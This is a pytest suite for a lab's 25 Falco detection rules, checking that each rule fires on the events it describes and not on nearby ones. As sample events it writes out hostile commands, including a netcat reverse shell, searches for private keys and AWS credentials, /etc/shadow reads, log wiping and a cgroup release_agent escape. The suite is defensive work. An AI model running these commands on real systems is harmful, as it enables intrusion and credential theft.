"""The lab's stable rules: each fires on what it describes, and not on its neighbour."""

from __future__ import annotations

import re
from typing import Any

import pytest
import yaml

from falcorules import Engine, RecordedEvent, check
from falcorules.rulesets import DATA

FILE = DATA / "falco_rules.yaml"
RULES: list[dict[str, Any]] = [item for item in yaml.safe_load(FILE.read_text()) if "rule" in item]

# A process in a container of the web shop, started by a shell that was started by the container runtime.
PROCESS = {
    "evt.num": 7,
    "evt.time": 1_795_407_615_000_000_000,
    "evt.res": "SUCCESS",
    "evt.rawres": 0,
    "container.id": "6c87814e33bb",
    "container.image.repository": "docker.io/library/nginx",
    "container.privileged": False,
    "k8s.ns.name": "shop",
    "proc.name": "cat",
    "proc.exe": "cat",
    "proc.exepath": "/usr/bin/cat",
    "proc.pname": "sh",
    "proc.aname": ["cat", "sh", "containerd-shim", "systemd"],
    "proc.cmdline": "cat",
    "proc.pcmdline": "sh",
    "proc.pexe": "sh",
    "proc.args": "",
    "proc.cwd": "/",
    "proc.tty": 0,
    "proc.duration": 1_000_000,
    "proc.is_exe_upper_layer": False,
    "proc.is_exe_from_memfd": False,
    "user.name": "root",
    "user.uid": 0,
    "thread.cap_effective": "CAP_CHOWN CAP_KILL",
}


def opened(path: str, *, write: bool = False, **more: Any) -> dict[str, Any]:
    folder, _, name = path.rpartition("/")
    event = {
        "evt.type": "openat",
        "evt.is_open_read": not write,
        "evt.is_open_write": write,
        "evt.arg": {"flags": "O_TRUNC|O_CREAT|O_WRONLY" if write else "O_RDONLY"},
        "fd.num": 3,
        "fd.typechar": "f",
        "fd.name": path,
        "fd.nameraw": path,
        "fd.directory": folder or "/",
        "fd.filename": name,
    }
    return PROCESS | event | fields(more)


def ran(command: str, **more: Any) -> dict[str, Any]:
    name, _, arguments = command.partition(" ")
    event = {
        "evt.type": "execve",
        "proc.name": name.rsplit("/", 1)[-1][:15],
        "proc.exe": name,
        "proc.exepath": name if name.startswith("/") else f"/usr/bin/{name}",
        "proc.args": arguments,
        "proc.cmdline": command.rsplit("/", 1)[-1] if name.startswith("/") else command,
        "proc.aname": [name.rsplit("/", 1)[-1][:15], "sh", "containerd-shim", "systemd"],
        "evt.arg": {"flags": "EXE_WRITABLE|EXE_LOWER_LAYER"},
    }
    return PROCESS | event | fields(more)


def connected(address: str, port: int, **more: Any) -> dict[str, Any]:
    event = {
        "evt.type": "connect",
        "evt.res": "EINPROGRESS",
        "evt.rawres": -115,
        "fd.typechar": "4",
        "fd.type": "ipv4",
        "fd.l4proto": "tcp",
        "fd.sip": address,
        "fd.rip": address,
        "fd.cip": "10.0.1.20",
        "fd.lip": "10.0.1.20",
        "fd.sport": port,
        "fd.rport": port,
        "fd.name": f"10.0.1.20:41000->{address}:{port}",
    }
    return PROCESS | event | fields(more)


def called(kind: str, arguments: dict[str, Any] | None = None, **more: Any) -> dict[str, Any]:
    return PROCESS | {"evt.type": kind, "evt.arg": arguments or {}} | fields(more)


def fields(more: dict[str, Any]) -> dict[str, Any]:
    """`proc_name=...` is the field `proc.name`; `proc_is__exe` keeps an underscore by doubling it."""
    return {re.sub(r"(?<!_)_(?!_)", ".", name).replace("__", "_"): value for name, value in more.items()}


SHELL_OF_NGINX = {"proc_pname": "nginx", "proc_aname": ["sh", "nginx", "containerd-shim"], "proc_pexe": "nginx"}
UPPER = {"proc_is__exe__upper__layer": True}
ADMIN = {"thread_cap__effective": "CAP_SYS_ADMIN CAP_SYS_MODULE"}

# Rule -> events that raise it, and events beside it that don't.
CASES: dict[str, tuple[list[dict[str, Any]], list[dict[str, Any]]]] = {
    "Directory traversal monitored file read": (
        [opened("/etc/passwd", fd_nameraw="../../../etc/passwd", proc_pname="nginx")],
        [
            opened("/etc/passwd", fd_nameraw="../../../etc/passwd"),  # typed into a shell
            opened("/etc/passwd", fd_nameraw="../etc/passwd", proc_pname="nginx"),
            opened("/srv/a", fd_nameraw="../../srv/a", proc_pname="nginx"),
        ],
    ),
    "Read sensitive file trusted after startup": (
        [opened("/etc/shadow", proc_name="nginx", proc_duration=6_000_000_000)],
        [opened("/etc/passwd", proc_name="nginx", proc_duration=6_000_000_000)],
    ),
    "Read sensitive file untrusted": (
        [opened("/etc/shadow"), opened("/etc/pam.d/login"), opened("/etc/sudoers", container_id="host")],
        [
            opened("/etc/passwd"),
            opened("/etc/shadow", proc_name="passwd"),
            opened("/etc/shadow", write=True),
            opened("/etc/shadow", fd_num=-1),
            opened("/etc/shadow", proc_name="awk", proc_aname=["awk", "sh", "linux-bench"]),
        ],
    ),
    "Run shell untrusted": (
        [ran("sh -c id", **SHELL_OF_NGINX)],
        [
            ran("sh -c id"),
            ran("sh -c whoami", **SHELL_OF_NGINX),
            ran("id", **SHELL_OF_NGINX),
            ran("sh -c kill -0 17", **SHELL_OF_NGINX),
        ],
    ),
    "System user interactive": (
        [ran("id", user_name="daemon", proc_aname=["id", "bash", "sshd", "systemd"])],
        [
            ran("id", proc_aname=["id", "bash", "sshd", "systemd"]),
            ran("id", user_name="daemon"),
        ],
    ),
    "Terminal shell in container": (
        [ran("bash", proc_pname="containerd-shim", proc_tty=34816), ran("bash", proc_pname=None, proc_tty=34816)],
        [
            ran("bash", proc_pname="containerd-shim"),  # no terminal
            ran("bash", proc_pname="su", proc_tty=34816),
            ran("id", proc_pname="containerd-shim", proc_tty=34816),
            ran("bash", proc_pname="containerd-shim", proc_tty=34816, container_id="host"),
        ],
    ),
    "Contact K8S API Server From Container": (
        [connected("10.100.0.1", 443, fd_sip_name="kubernetes.default.svc.cluster.local")],
        [
            connected("10.100.0.1", 443, fd_sip_name="nginx.default.svc.cluster.local"),
            connected("10.100.0.1", 443, fd_sip_name="kubernetes.default.svc.cluster.local", k8s_ns_name="kube-system"),
        ],
    ),
    "Netcat Remote Code Execution in Container": (
        [ran("nc -e /bin/sh 10.0.0.1 4444"), ran("ncat --sh-exec id -l")],
        [ran("nc -z 10.0.0.1 4444"), ran("nc -e /bin/sh 10.0.0.1 4444", container_id="host")],
    ),
    "Search Private Keys or Passwords": (
        [ran("find / -name id_rsa"), ran("grep -r BEGIN RSA PRIVATE /")],
        [ran("find / -name index.html"), ran("grep -r password /etc"), ran("ls id_rsa")],
    ),
    "Clear Log Activities": (
        [opened("/var/log/syslog", write=True), opened("/srv/access_log", write=True)],
        [
            opened("/var/log/syslog", write=True, evt_arg={"flags": "O_APPEND|O_WRONLY"}),
            opened("/var/tmp/x", write=True),
        ],
    ),
    "Remove Bulk Data from Disk": ([ran("shred -u /tmp/x")], [ran("rm -rf /tmp/x")]),
    "Create Symlink Over Sensitive Files": (
        [called("symlinkat", {"target": "/etc/shadow", "linkpath": "/tmp/x"}), called("symlink", {"target": "/root"})],
        [called("symlinkat", {"target": "/etc/hostname", "linkpath": "/etc/shadow"})],
    ),
    "Create Hardlink Over Sensitive Files": (
        [called("linkat", {"oldpath": "/etc/shadow", "newpath": "/tmp/x"})],
        [called("linkat", {"oldpath": "/etc/hostname", "newpath": "/tmp/x"})],
    ),
    "Packet socket created in container": (
        [called("socket", {"domain": "AF_PACKET"})],
        [called("socket", {"domain": "AF_INET"}), called("socket", {"domain": "AF_PACKET"}, container_id="host")],
    ),
    "Redirect STDOUT/STDIN to Network Connection in Container": (
        [called("dup2", fd_type="ipv4", evt_rawres=1)],
        [called("dup2", fd_type="ipv4", evt_rawres=5), called("dup2", fd_type="file", evt_rawres=1)],
    ),
    "Linux Kernel Module Injection Detected": (
        [called("finit_module", **ADMIN)],
        [called("finit_module"), called("finit_module", container_id="host", **ADMIN)],
    ),
    "Debugfs Launched in Privileged Container": (
        [ran("debugfs /dev/sda1", container_privileged=True)],
        [ran("debugfs /dev/sda1")],
    ),
    "Detect release_agent File Container Escapes": (
        [opened("/sys/fs/cgroup/x/release_agent", write=True, **ADMIN)],
        [opened("/sys/fs/cgroup/x/release_agent", write=True), opened("/sys/fs/cgroup/x/release_agent", **ADMIN)],
    ),
    "PTRACE attached to process": (
        [called("ptrace", {"request": "PTRACE_ATTACH"}), called("ptrace", {"request": "PTRACE_SEIZE"})],
        [called("ptrace", {"request": "PTRACE_PEEKTEXT"})],
    ),
    "PTRACE anti-debug attempt": (
        [called("ptrace", {"request": "PTRACE_TRACEME"})],
        [called("ptrace", {"request": "PTRACE_CONT"})],
    ),
    "Find AWS Credentials": (
        [ran("grep -r aws_secret_access_key /etc"), ran("find / -path */.aws/credentials")],
        [ran("grep -r aws /etc"), ran("find / -name credentials")],
    ),
    "Execution from /dev/shm": (
        [ran("/dev/shm/x"), ran("sh /dev/shm/x.sh"), ran("./x", proc_cwd="/dev/shm/")],
        [ran("/tmp/x"), ran("/dev/shm/x", container_image_repository="docker.io/falcosecurity/falco")],
    ),
    "Drop and execute new binary in container": (
        [ran("/tmp/x", **UPPER)],
        [ran("/tmp/x"), ran("/tmp/x", container_id="host", **UPPER)],
    ),
    "Disallowed SSH Connection Non Standard Port": (
        [connected("198.51.100.7", 443, proc_exe="ssh")],
        [
            connected("198.51.100.7", 22, proc_exe="ssh"),
            connected("10.0.3.4", 443, proc_exe="ssh"),
            connected("198.51.100.7", 443, proc_exe="curl"),
            connected("198.51.100.7", 443, proc_exe="ssh", evt_res="ECONNREFUSED"),
        ],
    ),
    "Fileless execution via memfd_create": (
        [ran("x", proc_is__exe__from__memfd=True)],
        [ran("x"), ran("runc", proc_is__exe__from__memfd=True)],
    ),
}


@pytest.fixture(scope="module")
def engine() -> Engine:
    engine = Engine(matching="all")
    engine.load([FILE])
    return engine


def test_they_load_without_a_word() -> None:
    report = check([FILE])
    assert report.successful
    assert report.warnings == []


def test_there_is_a_case_for_every_rule() -> None:
    assert list(CASES) == [rule["rule"] for rule in RULES]
    assert len(RULES) == 25
    assert all(fires and silent for fires, silent in CASES.values())


@pytest.mark.parametrize("name", CASES)
def test_a_rule_fires_on_what_it_describes(engine: Engine, name: str) -> None:
    for event in CASES[name][0]:
        assert name in [rule.name for rule in engine.matches(RecordedEvent(event))], event


@pytest.mark.parametrize("name", CASES)
def test_a_rule_leaves_its_neighbour_alone(engine: Engine, name: str) -> None:
    for event in CASES[name][1]:
        assert name not in [rule.name for rule in engine.matches(RecordedEvent(event))], event


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule["rule"])
def test_a_rule_keeps_to_the_house_style(rule: dict[str, Any]) -> None:
    assert set(rule) == {"rule", "desc", "condition", "output", "priority", "tags"}
    message, _, pairs = rule["output"].partition(" | ")
    assert message[0].isupper()
    assert "%" not in message
    assert all(re.fullmatch(r"[\w.\[\]]+=%[\w.\[\]]+", pair) for pair in pairs.split())
    for field in ("%evt.type", "%user.name", "%proc.name", "%proc.cmdline", "%proc.tty"):
        assert field in pairs
    assert rule["priority"] in ("CRITICAL", "WARNING", "NOTICE", "INFO")
    assert rule["tags"][0] == "maturity_stable"
    assert {"host", "container"} & set(rule["tags"])
    assert any(tag.startswith("mitre_") for tag in rule["tags"])
    assert any(re.fullmatch(r"T\d{4}(\.\d{3})?|TA\d{4}", tag) for tag in rule["tags"])


def test_first_match_wins_in_the_order_of_the_file() -> None:
    engine = Engine(matching="first")
    engine.load([FILE])
    both = ran("/dev/shm/x", **UPPER)
    assert [alert.rule for alert in engine.process(RecordedEvent(both))] == ["Execution from /dev/shm"]
